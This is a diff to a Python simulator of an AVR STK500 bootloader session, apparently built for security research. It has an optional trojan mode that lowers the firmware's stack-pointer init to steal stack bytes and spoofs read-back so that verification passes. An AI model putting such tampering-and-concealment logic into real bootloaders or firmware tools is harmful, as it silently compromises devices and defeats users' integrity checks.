@@ -174,22 +174,21 @@ class BootSession:
 
     With trojan_enabled the session scans each arriving page (plus a
     7-byte fringe into previously received bytes) for the stack-pointer
-    init sequence and lowers the SPL immediate by steal_n the moment the
-    whole 8-byte pattern is resident.  Read-back requests overlapping the
-    patched word are reverted on the fly, so a verify pass sees exactly
-    the uploaded bytes.  If the immediate cannot take the subtraction the
-    session stays dormant and nothing is patched or spoofed.  The session
-    patches at most once; ``_patch`` holds the two bytes the patch
-    replaced until a later write covers either of them, and from then on
-    reads show the stored bytes.
+    init sequence and lowers the SPL immediate by avr.DEFAULT_STEAL_BYTES
+    the moment the whole 8-byte pattern is resident.  Read-back requests
+    overlapping the patched word are reverted on the fly, so a verify pass
+    sees exactly the uploaded bytes.  If the immediate cannot take the
+    subtraction the session stays dormant and nothing is patched or
+    spoofed.  The session patches at most once, at ``sp_site``; ``_patch``
+    holds the two bytes the patch replaced until a later write covers
+    either of them, and from then on reads show the stored bytes.
     """
 
     image: FlashImage
     trojan_enabled: bool = False
-    steal_n: int = avr.DEFAULT_STEAL_BYTES
-    load_address: int = 0
-    sp_site: SpInitSite | None = None
-    _patch: bytes | None = None
+    load_address: int = field(default=0, init=False)
+    sp_site: SpInitSite | None = field(default=None, init=False)
+    _patch: bytes | None = field(default=None, init=False)
     # one byte per application-region address, nonzero once the session
     # has received that byte
     _received: bytearray = field(init=False, repr=False)
@@ -243,7 +242,7 @@ class BootSession:
                 continue
             original = self.image.read(site.offset, 2)
             try:
-                self.image = apply_stack_steal(self.image, site, self.steal_n)
+                self.image = apply_stack_steal(self.image, site)
             except avr.UnderflowWouldBorrow:
                 return  # dormant: immediate too small to take the theft
             self.sp_site = site
@@ -289,11 +288,6 @@ class BootSession:
         return bytes([cmd, STATUS_CMD_FAILED])
 
 
-def serve(session: BootSession, request: Stk500Frame) -> Stk500Frame:
-    """One request/response exchange; the response echoes the sequence."""
-    return Stk500Frame(request.sequence, session.handle(request.body))
-
-
 # --- transports -------------------------------------------------------------
 
 
@@ -317,8 +311,7 @@ class PipeTransport:
             self.transcript.append((">>", bytes(data)))
         pending = self.pending[self._at :]
         for frame in self.reader.feed(data):
-            reply = serve(self.session, frame)
-            response = frame_encode(reply.body, reply.sequence)
+            response = frame_encode(self.session.handle(frame.body), frame.sequence)
             if self.transcript is not None:
                 self.transcript.append(("<<", response))
             pending += response
